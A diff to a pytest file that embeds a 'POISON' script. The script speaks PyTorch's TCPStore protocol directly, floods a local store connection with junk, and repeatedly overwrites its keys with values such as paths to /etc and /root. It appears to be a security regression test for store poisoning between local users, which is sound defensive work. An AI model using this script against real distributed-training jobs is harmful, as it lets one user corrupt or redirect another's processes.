@@ -15,27 +15,33 @@ from tests.support.trials import Site, processes, sft_config, wait_until
 
 pytestmark = pytest.mark.long
 
-POISON = """
+POISON = r"""
+import encodings.idna  # another user may not read it
 import os
 import socket
+import struct
 import sys
 import threading
-from datetime import timedelta
+import time
 
-from torch.distributed import TCPStore
-
+HELLO, SET, COUNT = b"\0" + struct.pack("<I", 0x3C85F7CE), b"\1", b"\7"  # of torch's TCPStore
 VALUES = (b"[]", b'["/etc", "/root"]')
+KEYS = (b"/prepared data", b"/default_pg/0//cpu//0/0", b"/0//cpu//0/0", b"/0//cpu//0/1")
+
+def text(data):
+    return struct.pack("<Q", len(data)) + data
 
 def poison(port):
-    with socket.create_connection(("127.0.0.1", port), timeout=5) as garbage:
+    place = ("127.0.0.1", port)
+    with socket.create_connection(place) as store, socket.create_connection(place) as garbage:
         garbage.sendall(VALUES[1] * 100)
-    store = TCPStore("127.0.0.1", port, is_master=False, wait_for_workers=False,
-                     timeout=timedelta(seconds=5))
-    print(f"poisoned {port}", flush=True)
-    while True:
-        for value in VALUES:
-            for key in ["/prepared data", *store.list_keys()]:
-                store.set(key, value)
+        store.sendall(HELLO)
+        while True:
+            for value in VALUES:
+                store.sendall(b"".join(SET + text(key) + text(value) for key in KEYS) + COUNT)
+            if len(store.recv(8)) == 8:
+                print(f"a store at {port}", flush=True)
+            time.sleep(0.001)
 
 if os.geteuid() == 0:
     os.setgroups([])
